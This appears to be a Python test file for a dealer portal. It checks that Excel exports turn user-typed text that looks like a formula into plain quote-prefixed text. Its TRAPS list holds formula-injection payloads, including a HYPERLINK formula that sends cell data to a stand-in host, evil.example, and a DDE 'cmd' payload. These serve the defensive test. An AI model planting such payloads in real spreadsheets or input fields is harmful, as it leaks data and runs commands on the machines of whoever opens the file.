"""Exports never carry a live formula: text a user typed that a spreadsheet would read as one
(=, +, -, @, tab, carriage return first) is written as text, and numbers stay numbers."""

import io
import re
from datetime import date
from decimal import Decimal
from pathlib import Path

from openpyxl import load_workbook

from portal.accounts.roles import Role
from portal.core.excel import Column, write_sheet
from portal.finance.models import LedgerKind
from portal.quality.excel import risk_sheet
from portal.quality.warning import DealerRisk
from tests import factories
from tests.builders import make_plan, make_season, post

LINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
TRAPS = [LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1",
         "＝HYPERLINK(\"http://evil.example\")", "＋1", "－1", "＠A1"]


def cells(data: bytes) -> list:
    workbook = load_workbook(io.BytesIO(data))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_text(data: bytes, *texts) -> None:
    """Each text is in the workbook as a string cell, quote-prefixed, and no cell is a formula."""
    found = {cell.value: cell for cell in cells(data) if cell.value is not None}
    for text in texts:
        text = text.replace("\r", "\n")  # XML reads a carriage return back as a line feed
        assert text in found, text
        assert found[text].data_type == "s" and found[text].quotePrefix, text
    assert not [c.coordinate for c in cells(data) if c.data_type == "f"]


def test_the_shared_writer_keeps_text_as_text_and_numbers_as_numbers():
    columns = [Column("text", "Text"), Column("amount", "Amount", number_format="0.00")]
    data = write_sheet("Sheet", columns, [[trap, Decimal("-12.50")] for trap in TRAPS]
                       + [["plain", -3]])
    assert_text(data, *TRAPS)
    numbers = [c for c in cells(data) if c.column == 2 and c.row > 1]
    assert [(c.value, c.data_type) for c in numbers] == [(-12.5, "n")] * len(TRAPS) + [(-3, "n")]
    plain = next(c for c in cells(data) if c.value == "plain")
    assert not plain.quotePrefix


def test_units_at_risk_carry_the_buyer_name_as_text(world):
    unit = factories.make_unit(dealer=world.dealer_a)
    card = factories.make_card(unit, buyer_name=LINK, buyer_phone="+8613800138000")
    data = risk_sheet(None, [DealerRisk(world.dealer_a, [(unit, card)], [])])
    assert_text(data, LINK, "+8613800138000")


def test_the_statement_carries_the_memo_as_text(client, login, world):
    post(world.dealer_a, LedgerKind.INVOICE, date(2026, 2, 3), "FP-F1", "100.00", memo=LINK)
    post(world.dealer_a, LedgerKind.PAYMENT, date(2026, 2, 4), "-SK", "-40.00", memo="@me")
    login(world.users[Role.DEALER_ADMIN])
    response = client.get(f"/finance/ledger/{world.dealer_a.id}/statement.xlsx"
                          "?start=2026-02-01&end=2026-02-28")
    assert response.status_code == 200
    assert_text(response.data, LINK, "-SK", "@me")
    amounts = [c for c in cells(response.data) if c.value == -40]
    assert [c.data_type for c in amounts] == ["n"]


def test_the_catalogue_and_the_plan_order_carry_names_as_text(client, login, world):
    model = factories.make_model("FX-1")
    part = factories.make_part("FX-P1", models=[model], name="=1+1", supplier="@supplier")
    world.dealer_a.contact_name, world.dealer_a.contact_phone = "-1+1", ""
    season = make_season("2027春季", date(2027, 3, 10), date(2027, 6, 15))
    plan = make_plan(season, world.dealer_a, [(part, 2, 2)])
    login(world.users[Role.ADMIN])
    assert_text(client.get("/catalog/parts/export.xlsx").data, "=1+1", "@supplier")
    login(world.users[Role.CLERK])
    order = client.get(f"/plans/{plan.id}/order.xlsx")
    assert order.status_code == 200
    assert_text(order.data, "=1+1", "-1+1")


def test_every_workbook_is_saved_by_the_shared_writer():
    """One place defuses formulas: no other module saves a workbook."""
    root = Path(__file__).resolve().parents[1] / "portal"
    savers = [str(path.relative_to(root)) for path in root.rglob("*.py")
              if "openpyxl" in (text := path.read_text())
              and re.search(r"\.save\(", text) and path.name != "excel.py"]
    assert savers == []
